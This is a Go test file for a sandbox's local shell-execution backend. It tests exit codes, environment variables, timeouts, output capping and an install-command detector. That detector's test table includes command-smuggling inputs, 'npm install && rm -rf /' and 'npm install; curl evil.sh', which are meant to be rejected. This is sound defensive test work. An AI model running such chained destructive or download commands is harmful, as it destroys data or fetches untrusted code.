package sandbox

import (
	"context"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
}

func newTestLocalBackend(t *testing.T, cfg LocalConfig) *LocalBackend {
	t.Helper()
	if _, err := os.Stat("/bin/sh"); err != nil {
		t.Skip("/bin/sh not available, skipping")
	}
	return NewLocalBackend(cfg, testLogger())
}

func TestLocalBackend_BasicExecution(t *testing.T) {
	b := newTestLocalBackend(t, LocalConfig{})
	res, err := b.Run(context.Background(), "exec-1", "echo hello", t.TempDir(), DefaultLimits(), nil)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if res.ExitCode != 0 {
		t.Errorf("exit code = %d, want 0", res.ExitCode)
	}
	if strings.TrimSpace(res.Stdout) != "hello" {
		t.Errorf("stdout = %q, want hello", res.Stdout)
	}
	if res.ResourceID != "" {
		t.Errorf("local run reported a resource ID: %q", res.ResourceID)
	}
}

func TestLocalBackend_NonZeroExit(t *testing.T) {
	b := newTestLocalBackend(t, LocalConfig{})
	res, err := b.Run(context.Background(), "exec-2", "exit 3", t.TempDir(), DefaultLimits(), nil)
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if res.ExitCode != 3 {
		t.Errorf("exit code = %d, want 3", res.ExitCode)
	}
}

func TestLocalBackend_WorkingDirectory(t *testing.T) {
	b := newTestLocalBackend(t, LocalConfig{})
	ws := t.TempDir()
	res, err := b.Run(context.Background(), "exec-3", "pwd", ws, DefaultLimits(), nil)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.TrimSpace(res.Stdout)
	// Resolve symlinks: on some systems TempDir sits behind /private or similar.
	resolved, _ := filepath.EvalSymlinks(ws)
	if got != ws && got != resolved {
		t.Errorf("pwd = %q, want %q", got, ws)
	}
}

func TestLocalBackend_EnvOverride(t *testing.T) {
	b := newTestLocalBackend(t, LocalConfig{})
	res, err := b.Run(context.Background(), "exec-4", "echo $NGOME_TEST_VAR", t.TempDir(),
		DefaultLimits(), map[string]string{"NGOME_TEST_VAR": "injected"})
	if err != nil {
		t.Fatal(err)
	}
	if strings.TrimSpace(res.Stdout) != "injected" {
		t.Errorf("stdout = %q, want injected", res.Stdout)
	}
}

func TestLocalBackend_InheritsHostEnv(t *testing.T) {
	t.Setenv("NGOME_HOST_VAR", "from-host")
	b := newTestLocalBackend(t, LocalConfig{})
	res, err := b.Run(context.Background(), "exec-5", "echo $NGOME_HOST_VAR", t.TempDir(), DefaultLimits(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if strings.TrimSpace(res.Stdout) != "from-host" {
		t.Errorf("stdout = %q, want from-host", res.Stdout)
	}
}

func TestLocalBackend_Stderr(t *testing.T) {
	b := newTestLocalBackend(t, LocalConfig{})
	res, err := b.Run(context.Background(), "exec-6", "echo oops >&2", t.TempDir(), DefaultLimits(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if strings.TrimSpace(res.Stderr) != "oops" {
		t.Errorf("stderr = %q, want oops", res.Stderr)
	}
	if res.Stdout != "" {
		t.Errorf("stdout = %q, want empty", res.Stdout)
	}
}

func TestLocalBackend_Timeout(t *testing.T) {
	b := newTestLocalBackend(t, LocalConfig{})
	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
	defer cancel()

	start := time.Now()
	_, err := b.Run(ctx, "exec-7", "sleep 10", t.TempDir(), DefaultLimits(), nil)
	elapsed := time.Since(start)

	if err == nil {
		t.Fatal("expected timeout error")
	}
	if !strings.Contains(err.Error(), "timed out") {
		t.Errorf("error = %v, want a timed out message", err)
	}
	if elapsed > 5*time.Second {
		t.Errorf("run took %s, process group was not killed promptly", elapsed)
	}
}

func TestLocalBackend_EmptyCommand(t *testing.T) {
	b := newTestLocalBackend(t, LocalConfig{})
	if _, err := b.Run(context.Background(), "exec-8", "", t.TempDir(), DefaultLimits(), nil); err == nil {
		t.Error("expected error for empty command")
	}
}

func TestLocalBackend_FastTestMode(t *testing.T) {
	b := newTestLocalBackend(t, LocalConfig{FastTestMode: true})

	res, err := b.Run(context.Background(), "exec-9", "npm install", t.TempDir(), DefaultLimits(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.ExitCode != 0 {
		t.Errorf("exit code = %d, want synthetic success", res.ExitCode)
	}
	found := false
	for _, w := range res.Warnings {
		if strings.Contains(w, "fast test mode") {
			found = true
		}
	}
	if !found {
		t.Errorf("warnings = %v, want a fast test mode notice", res.Warnings)
	}
}

func TestLocalBackend_FastTestModeNonInstall(t *testing.T) {
	b := newTestLocalBackend(t, LocalConfig{FastTestMode: true})

	// A non-installation command must execute for real.
	res, err := b.Run(context.Background(), "exec-10", "echo ran", t.TempDir(), DefaultLimits(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if strings.TrimSpace(res.Stdout) != "ran" {
		t.Errorf("stdout = %q, command was not executed", res.Stdout)
	}
	if len(res.Warnings) != 0 {
		t.Errorf("warnings = %v, want none", res.Warnings)
	}
}

func TestIsInstallCommand(t *testing.T) {
	tests := []struct {
		command string
		want    bool
	}{
		{"npm install", true},
		{"npm install express", true},
		{"pip install -r requirements.txt", true},
		{"go mod download", true},
		{"bundle install", true},
		{"npm install && rm -rf /", false},
		{"npm install; curl evil.sh", false},
		{"pip install | tee log", false},
		{"echo npm install", false},
		{"npm run build", false},
		{"", false},
	}
	for _, tc := range tests {
		if got := isInstallCommand(tc.command); got != tc.want {
			t.Errorf("isInstallCommand(%q) = %v, want %v", tc.command, got, tc.want)
		}
	}
}

func TestLimitedWriter(t *testing.T) {
	var sb strings.Builder
	lw := &limitedWriter{w: &sb, remaining: 10}

	n, err := lw.Write([]byte("0123456789overflow"))
	if err != nil {
		t.Fatal(err)
	}
	// Reports full consumption so the producer never errors.
	if n != 18 {
		t.Errorf("first write n = %d, want 18", n)
	}
	n, err = lw.Write([]byte("more"))
	if err != nil || n != 4 {
		t.Errorf("post-cap write = (%d, %v), want (4, nil)", n, err)
	}
	if sb.String() != "0123456789" {
		t.Errorf("captured = %q, want first 10 bytes only", sb.String())
	}
}
